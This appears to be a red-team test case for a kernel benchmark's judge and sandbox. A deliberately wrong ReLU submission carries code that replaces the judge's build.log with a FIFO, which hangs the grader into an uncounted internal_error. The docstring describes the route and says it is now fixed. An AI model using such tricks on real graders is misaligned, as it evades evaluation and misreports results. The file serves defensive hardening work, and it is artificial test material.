"""Attack: hang the judge through build.log (19_ReLU) -- a route the pending build_cache.cpp fix misses.

await_build() reads the tail of <build entry>/build.log with tail_of_file()
(candidate_phase.cpp): std::ifstream, no O_NOFOLLOW, no O_NONBLOCK, no file-type check, no
deadline. The entry is the sandbox's to write, so the candidate makes build.log a FIFO
(Landlock grants MAKE_FIFO beneath it). The judge's open(O_RDONLY) waits for a writer that
never comes, in stage 'build', before it ever kills the sandbox; only kbv's backstop
(compile + run timeout + 120 s; 27 min by default) ends it: internal_error, counted nowhere.
(The working tree's new library_hash() guards the *.so walk only.)
Returns zeros (wrong).
Verdict kbv gave (--compile-timeout 10 --run-timeout 10): internal_error after ~140 s, "kbv-judge
did not finish within the evaluation's limits ... in stage 'build'". WORKED.

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the judge reads the build log without following links or blocking, regular files only.
kbv must conclude: the candidate's own outcome within its limits, never internal_error.
"""
import os
import re

import torch
import torch.nn as nn

for line in open("/proc/self/mountinfo"):
    p = line.split()[4]
    if re.search(r"/builds/[0-9a-f]{16}$", p):
        log = os.path.join(p, "build.log")
        if os.path.lexists(log):
            os.unlink(log)
        os.mkfifo(log)
        print("ATTACK judge_hang_fifo_log: build.log is a FIFO", flush=True)


class ModelNew(nn.Module):
    def __init__(self, *init_inputs):
        super().__init__()

    def forward(self, x):
        return torch.zeros_like(x)  # wrong
